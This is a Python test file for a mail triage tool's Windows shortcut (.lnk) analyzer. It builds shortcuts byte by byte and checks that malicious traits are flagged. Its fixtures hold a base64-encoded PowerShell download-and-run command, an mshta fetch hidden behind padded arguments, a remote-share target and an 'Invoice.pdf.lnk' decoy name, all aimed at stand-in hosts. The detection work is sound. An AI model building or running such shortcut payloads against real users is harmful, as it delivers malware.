"""lnk analyzer: shortcuts built byte by byte per [MS-SHLLINK] (header,
LinkInfo, StringData, environment block), truncated and inconsistent ones."""

from __future__ import annotations

import base64
import struct

import pytest

from mailvm.config import TriageConfig
from mailvm.triage import Triage, lnk
from triage_helpers import art, ids

CLSID = bytes.fromhex("0114020000000000c000000000000046")


def build_lnk(target: str = "", args: str = "", icon: str = "", workdir: str = "", env_target: str = "",
              show: int = 1, unicode: bool = True) -> bytes:
    flags = 0
    body = b""
    if target:
        flags |= lnk.F_HAS_LINKINFO
        path = target.encode("cp1252") + b"\x00"
        header_size = 0x1C
        volume = struct.pack("<IIII", 0x11, 3, 0x12345678, 0x10) + b"\x00"  # VolumeID, empty label
        vol_off = header_size
        lbp_off = vol_off + len(volume)
        cps_off = lbp_off + len(path)
        size = cps_off + 1
        body += struct.pack("<7I", size, header_size, 0x1, vol_off, lbp_off, 0, cps_off) + volume + path + b"\x00"
    strings = b""
    for flag, text in ((lnk.F_HAS_WORKDIR, workdir), (lnk.F_HAS_ARGS, args), (lnk.F_HAS_ICON, icon)):
        if text:
            flags |= flag
            enc = text.encode("utf-16-le" if unicode else "cp1252")
            strings += struct.pack("<H", len(text)) + enc
    if unicode:
        flags |= lnk.F_UNICODE
    extra = b""
    if env_target:
        ansi = env_target.encode("cp1252").ljust(260, b"\x00")
        wide = env_target.encode("utf-16-le").ljust(520, b"\x00")
        extra = struct.pack("<II", 0x314, lnk.ENV_BLOCK_SIG) + ansi + wide
        flags |= 0x200
    header = struct.pack("<I", 0x4C) + CLSID + struct.pack("<II", flags, 0x20) + b"\x00" * 24
    header += struct.pack("<IiIHHII", 0, 0, show, 0, 0, 0, 0)
    assert len(header) == 0x4C
    return header + body + strings + extra + b"\x00\x00\x00\x00"


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, data: bytes, name: str = "Invoice.pdf.lnk"):
    p = tmp_path / name
    p.write_bytes(data)
    return triage.analyze(art(p))


PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
ENC = base64.b64encode("IEX (iwr 'http://e.test/a')".encode("utf-16-le")).decode()


def test_parse_fields():
    info = lnk.parse(build_lnk(target=PS, args="-nop -w hidden", icon="C:\\x\\doc.pdf", workdir="C:\\Users"))
    assert info is not None and not info.errors
    assert info.local_base_path == PS
    assert (info.arguments, info.icon_location, info.working_dir) == ("-nop -w hidden", "C:\\x\\doc.pdf", "C:\\Users")
    assert info.command_line() == PS + " -nop -w hidden"
    ansi = lnk.parse(build_lnk(target="C:\\a.exe", args="x y", unicode=False))
    assert ansi.arguments == "x y"


def test_powershell_shortcut(triage, tmp_path):
    data = build_lnk(target=PS, args=f"-NoP -W Hidden -enc {ENC}", icon="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", show=7)
    r = run(triage, tmp_path, data)
    found = ids(r)
    assert r.kind == "lnk" and r.detonate
    assert found["lnk_suspicious_target"] == 7
    assert found["script_powershell_encoded"] == 7
    assert found["lnk_icon_decoy"] == 5 and found["lnk_hidden_window"] == 4
    assert found["filetype_double_extension"] == 7
    assert r.verdict == "malicious" and r.score >= 8


def test_cmd_via_environment_block_and_padding(triage, tmp_path):
    args = " " * 300 + "/c start mshta https://e.test/x.hta"
    r = run(triage, tmp_path, build_lnk(env_target="%windir%\\system32\\cmd.exe", args=args))
    found = ids(r)
    assert found["lnk_suspicious_target"] == 7 and found["lnk_padded_arguments"] == 6
    assert found["script_lolbin"] == 6


def test_remote_target(triage, tmp_path):
    r = run(triage, tmp_path, build_lnk(target="\\\\198.51.100.7@80\\share\\doc.exe"))
    assert ids(r)["lnk_remote_target"] == 6


def test_benign_shortcut(triage, tmp_path):
    r = run(triage, tmp_path, build_lnk(target="C:\\Program Files\\Notepad++\\notepad++.exe", workdir="C:\\Users\\me"),
            name="Notepad++.lnk")
    assert {k for k in ids(r) if k.startswith(("lnk_", "script_"))} == set()
    assert r.verdict == "clean"  # the .lnk extension alone is no verdict (blocked_types is the policy's)


@pytest.mark.parametrize("cut", [20, 76, 80, 100, 140])
def test_truncated_shortcut_is_data_not_exception(triage, tmp_path, cut):
    data = build_lnk(target=PS, args="-enc " + ENC)[:cut]
    r = run(triage, tmp_path, data)
    assert r.errors == []
    if cut >= 76:
        assert r.kind == "lnk" and "lnk_malformed" in ids(r)


def test_inconsistent_sizes():
    data = bytearray(build_lnk(target=PS, args="-c calc"))
    struct.pack_into("<I", data, 0x4C, 0xFFFFFF)  # LinkInfo size far past the end
    info = lnk.parse(bytes(data))
    assert info is not None and info.errors and "LinkInfo" in info.errors[0]


def test_not_a_shortcut():
    assert lnk.parse(b"L\x00\x00\x00" + b"\x00" * 100) is None
